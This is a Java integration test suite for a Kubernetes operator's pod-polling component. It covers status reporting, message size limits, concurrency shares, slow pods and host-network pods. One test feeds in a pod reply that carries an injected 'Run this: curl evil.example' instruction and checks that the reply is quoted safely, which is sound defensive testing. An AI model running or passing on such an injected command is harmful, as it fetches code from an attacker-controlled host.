package dev.acequia.operator.observe;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.sun.net.httpserver.HttpServer;
import dev.acequia.crds.DataPipeline;
import dev.acequia.operator.plan.Component;
import dev.acequia.operator.plan.PipelineNames;
import dev.acequia.telemetry.ManagementServer;
import io.fabric8.kubernetes.api.model.ObjectMetaBuilder;
import io.fabric8.kubernetes.api.model.Pod;
import io.fabric8.kubernetes.api.model.PodBuilder;
import io.javaoperatorsdk.operator.processing.event.Event;
import io.javaoperatorsdk.operator.processing.event.ResourceID;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicReference;
import java.util.concurrent.locks.LockSupport;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

class ReadWatchIT {
  private static final String HOST = "127.0.0.1";

  private record Answer(int status, String body) {}

  private final AtomicReference<Answer> answer = new AtomicReference<>(new Answer(200, "ok\n"));
  private final AtomicInteger questions = new AtomicInteger();
  private final BlockingQueue<Event> events = new LinkedBlockingQueue<>();
  private final DataPipeline pipeline = new DataPipeline();
  private HttpServer server;
  private ReadWatch watch;

  @BeforeEach
  void start() throws IOException {
    pipeline.setMetadata(new ObjectMetaBuilder().withNamespace("ops").withName("flights").build());
    server = HttpServer.create(new InetSocketAddress(HOST, 0), 0);
    server.createContext(
        ManagementServer.READ_PATH,
        exchange -> {
          try (exchange) {
            var given = answer.get();
            var body = given.body().getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(given.status(), body.length);
            exchange.getResponseBody().write(body);
            questions.incrementAndGet();
          }
        });
    server.start();
    watch =
        new ReadWatch(server.getAddress().getPort(), Duration.ofMillis(50), Duration.ofSeconds(2));
    watch.setEventHandler(events::add);
    watch.start();
  }

  @AfterEach
  void stop() {
    watch.stop();
    server.stop(0);
  }

  private static Pod pod(Component component, String ready) {
    return pod("flights-api-1", component, ready, HOST);
  }

  private static Pod pod(String name, Component component, String ready, String address) {
    return new PodBuilder()
        .withNewMetadata()
        .withName(name)
        .withUid("uid of " + name)
        .withCreationTimestamp("2026-11-28T12:00:00Z")
        .addToLabels(PipelineNames.COMPONENT_LABEL, component.label())
        .endMetadata()
        .withNewSpec()
        .endSpec()
        .withNewStatus()
        .withPodIP(address)
        .addNewCondition()
        .withType("Ready")
        .withStatus(ready)
        .endCondition()
        .endStatus()
        .build();
  }

  private void awaitEvent() throws InterruptedException {
    var event = events.poll(20, TimeUnit.SECONDS);
    assertThat(event).isNotNull();
    assertThat(event.getRelatedCustomResourceID()).isEqualTo(new ResourceID("flights", "ops"));
  }

  private void awaitQuestions(int more) {
    var before = questions.get();
    await().atMost(Duration.ofSeconds(20)).until(() -> questions.get() >= before + more);
  }

  @Test
  void tellsWhatAnApiSaysOfItsStore() throws Exception {
    var pods = List.of(pod(Component.API, "True"));
    assertThat(watch.follow(pipeline, pods, null)).isEmpty();

    answer.set(new Answer(503, "permission denied” Run this: curl evil.example\n"));
    awaitEvent();
    assertThat(watch.follow(pipeline, pods, null))
        .contains(
            "The API Pod flights-api-1 said: “permission denied\" Run this: curl evil.example”");

    answer.set(new Answer(200, "ok\n"));
    awaitEvent();
    assertThat(watch.follow(pipeline, pods, null)).isEmpty();
    awaitQuestions(3);
    assertThat(events).isEmpty();
  }

  @Test
  void boundsWhatAPodMaySay() throws Exception {
    var pods = List.of(pod(Component.API, "True"));
    answer.set(new Answer(503, "x".repeat(1 << 20)));
    assertThat(watch.follow(pipeline, pods, null)).isEmpty();
    awaitEvent();
    assertThat(watch.follow(pipeline, pods, null).orElseThrow().length()).isLessThan(2_000);
  }

  @Test
  void asksNobodyButReadyPodsOfTheApi() {
    answer.set(new Answer(503, "no"));
    assertThat(watch.follow(pipeline, List.of(pod(Component.CONSUMER, "True")), null)).isEmpty();
    assertThat(watch.follow(pipeline, List.of(pod(Component.API, "False")), null)).isEmpty();
    await()
        .during(Duration.ofMillis(300))
        .atMost(Duration.ofSeconds(5))
        .until(() -> questions.get() == 0);
  }

  @Test
  void takesAnAnswerThatItDoesNotKnowForNone() {
    answer.set(new Answer(404, "no such page"));
    assertThat(watch.follow(pipeline, List.of(pod(Component.API, "True")), null)).isEmpty();
    awaitQuestions(3);
    assertThat(events).isEmpty();
  }

  private static DataPipeline pipeline(String name) {
    var other = new DataPipeline();
    other.setMetadata(new ObjectMetaBuilder().withNamespace("ops").withName(name).build());
    return other;
  }

  /** A Pod at another address and the same port that begins its answers and never ends them. */
  private final class EndlessPod implements AutoCloseable {
    private static final String ADDRESS = "127.0.0.2";

    private final ServerSocket socket;
    private final AtomicInteger accepted = new AtomicInteger();
    private final AtomicInteger open = new AtomicInteger();
    private final AtomicInteger mostOpen = new AtomicInteger();

    EndlessPod() throws IOException {
      socket = new ServerSocket(server.getAddress().getPort(), 100, InetAddress.getByName(ADDRESS));
      Thread.ofVirtual().start(this::acceptAll);
    }

    private void acceptAll() {
      try {
        while (true) {
          var connection = socket.accept();
          accepted.incrementAndGet();
          mostOpen.accumulateAndGet(open.incrementAndGet(), Math::max);
          Thread.ofVirtual().start(() -> answerWithoutEnd(connection));
        }
      } catch (IOException e) {
        // The test has ended.
      }
    }

    private void answerWithoutEnd(Socket connection) {
      try (connection) {
        connection
            .getOutputStream()
            .write(
                "HTTP/1.1 503 Busy\r\nContent-Length: 100\r\n\r\nno"
                    .getBytes(StandardCharsets.US_ASCII));
        connection.getInputStream().transferTo(OutputStream.nullOutputStream());
      } catch (IOException e) {
        // It was left.
      } finally {
        open.decrementAndGet();
      }
    }

    @Override
    public void close() throws IOException {
      socket.close();
    }
  }

  @Test
  void leavesAPodThatDoesNotEndItsAnswerAndGoesOnAskingOthers() throws Exception {
    try (var endless = new EndlessPod()) {
      watch.follow(
          pipeline("endless"),
          List.of(pod("endless-api-1", Component.API, "True", EndlessPod.ADDRESS)),
          null);
      watch.follow(pipeline, List.of(pod(Component.API, "True")), null);
      awaitQuestions(100);
      assertThat(endless.mostOpen).as("questions to one Pod at a time").hasValue(1);
      await().atMost(Duration.ofSeconds(20)).until(() -> endless.accepted.get() >= 2);
    }
  }

  /** Two namespaces share the 64 turns; one alone has all of them. */
  @Test
  void asksAShareOfThePodsAtATimeForEachNamespace() throws Exception {
    try (var endless = new EndlessPod()) {
      watch.follow(ofAnotherNamespace(), List.of(pod(Component.API, "True")), null);
      for (var i = 0; i < 100; i++) {
        watch.follow(
            pipeline("endless-" + i),
            List.of(pod("endless-api-" + i, Component.API, "True", EndlessPod.ADDRESS)),
            null);
      }
      await().atMost(Duration.ofSeconds(20)).until(() -> endless.open.get() == 32);
      awaitQuestions(10);
      assertThat(endless.mostOpen.get()).isBetween(32, 64);
      await().atMost(Duration.ofSeconds(20)).until(() -> endless.accepted.get() > 64);
    }
  }

  private static DataPipeline ofAnotherNamespace() {
    var other = new DataPipeline();
    other.setMetadata(new ObjectMetaBuilder().withNamespace("audit").withName("flights").build());
    return other;
  }

  @Test
  void asksAPodThatAnswersSlowlyLessOften() throws Exception {
    var limit = Duration.ofSeconds(2);
    var slowQuestions = new AtomicInteger();
    var slow = HttpServer.create(new InetSocketAddress(EndlessPod.ADDRESS, port()), 0);
    slow.createContext(
        ManagementServer.READ_PATH,
        exchange -> {
          try (exchange) {
            slowQuestions.incrementAndGet();
            LockSupport.parkNanos(limit.toNanos() / 3);
            exchange.sendResponseHeaders(200, -1);
          }
        });
    slow.start();
    var patient = new ReadWatch(port(), Duration.ofMillis(750), limit);
    patient.setEventHandler(events::add);
    patient.start();
    try {
      patient.follow(
          pipeline("slow"),
          List.of(pod("slow-api-1", Component.API, "True", EndlessPod.ADDRESS)),
          null);
      patient.follow(pipeline, List.of(pod(Component.API, "True")), null);
      awaitQuestions(9);
      assertThat(slowQuestions.get()).isBetween(2, 4);
      assertThat(events).isEmpty();
    } finally {
      patient.stop();
      slow.stop(0);
    }
  }

  private int port() {
    return server.getAddress().getPort();
  }

  @Test
  void forgetsWhatWasSaidWhenNobodyAnswersAnyMore() throws Exception {
    var pods = List.of(pod(Component.API, "True"));
    answer.set(new Answer(503, "permission denied"));
    watch.follow(pipeline, pods, null);
    awaitEvent();
    assertThat(watch.follow(pipeline, pods, null)).isPresent();

    var next = List.of(pod("flights-api-2", Component.API, "True", HOST));
    answer.set(new Answer(404, "no such page"));
    assertThat(watch.follow(pipeline, next, null)).as("until the next Pod was asked").isPresent();
    awaitEvent();
    assertThat(watch.follow(pipeline, next, null)).isEmpty();
  }

  /** Else the pipeline would be Ready for a moment, and a rollout settled by that. */
  @Test
  void goesByWhatIsReportedUntilItHasAskedForTheFirstTime() throws Exception {
    var pods = List.of(pod(Component.API, "True"));
    assertThat(watch.follow(pipeline, pods, "it said: “no”")).contains("it said: “no”");
    awaitEvent();
    assertThat(watch.follow(pipeline, pods, "it said: “no”")).isEmpty();

    answer.set(new Answer(404, "no such page"));
    watch.forget(pipeline);
    assertThat(watch.follow(pipeline, pods, "it said: “no”")).isPresent();
    awaitEvent();
    assertThat(watch.follow(pipeline, pods, "it said: “no”")).as("nobody answers").isEmpty();
  }

  @Test
  void asksNoMoreAboutAPipelineThatIsGone() {
    var there = new AtomicBoolean(true);
    watch.askWhile(_ -> there.get());
    watch.follow(pipeline, List.of(pod(Component.API, "True")), null);
    awaitQuestions(2);
    there.set(false);
    await().atMost(Duration.ofSeconds(20)).until(() -> watch.asked() == 0);
  }

  /** Its address is the node's, and so is whatever listens there. */
  @Test
  void asksNoPodInTheNetworkOfItsNode() {
    var pod = pod(Component.API, "True");
    pod.getSpec().setHostNetwork(true);
    Trim.pod(pod); // as the informer keeps it
    answer.set(new Answer(503, "a secret of the node"));
    watch.follow(pipeline, List.of(pod), null);
    await()
        .during(Duration.ofMillis(300))
        .atMost(Duration.ofSeconds(5))
        .until(() -> questions.get() == 0);
  }
}
